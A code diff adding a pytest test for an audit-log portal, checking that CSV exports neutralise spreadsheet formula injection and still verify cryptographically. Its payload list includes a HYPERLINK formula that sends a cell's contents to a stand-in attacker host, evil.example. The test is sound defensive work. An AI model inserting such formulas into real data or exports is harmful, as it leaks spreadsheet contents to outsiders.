@@ -186,3 +186,41 @@ def test_event_detail_shows_the_diff_and_links_to_timelines(trail: None, persona
     ds = Client()
     ds.force_login(personas["ds"])
     assert ds.get(f"/audit/events/{event.seq}/").status_code == 403
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A2,"Click")', "@SUM(1+1)", "+1+2", "-2+3", "\tTAB", "\rCR", "'quoted", "a\rb")
+
+
+@pytest.mark.parametrize("built_by", ["postgresql", "python"])
+def test_formula_cells_are_neutralised_in_csv_exports_and_the_export_still_verifies(
+        transactional_db: None, personas: dict[str, Any], api_as: Any, tmp_path: Path, built_by: str,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """OWASP's CSV injection: an audited request's User-Agent and a name a user chose, opened in a spreadsheet."""
+    import csv
+
+    from portal import audit_export, context
+    from portal.audit import AuditAction, Target, audit_record
+
+    if built_by == "python":
+        monkeypatch.setattr(audit_export, "_pg_lines", audit_export._python_lines)
+    for text in FORMULAS:
+        with context.bound(context.RequestContext(request_id="formula", ip="127.0.0.1", user_agent=text)):
+            audit_record(AuditAction.MODEL_REGISTER, actor=personas["ds"], target=Target("registeredmodel", text, text),
+                         after={"description": text})
+    client = api_as(personas["compliance"])
+    response = client.get("/api/v1/audit/export", {"format": "csv", "request_id": "formula"})
+    export = tmp_path / "export.zip"
+    export.write_bytes(b"".join(response.streaming_content))
+    with zipfile.ZipFile(export) as archive:
+        manifest = json.loads(archive.read("manifest.json"))
+        rows = list(csv.DictReader(io.StringIO(archive.read("audit-events.csv").decode(), newline="")))
+    assert len(rows) == len(FORMULAS) and "csv_escape" in manifest
+    for row, text in zip(rows, FORMULAS, strict=True):
+        for column in ("user_agent", "target_id", "target_repr"):
+            assert row[column] == (text if text == "a\rb" else "'" + text), (column, row[column])
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
+    key = tmp_path / "key.pem"
+    key.write_bytes(client.get("/api/v1/audit/public-key").content)
+    result = _verify(export, key)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert AuditEvent.objects.get(seq=int(rows[0]["seq"])).user_agent == FORMULAS[0], "the stored value is unchanged"
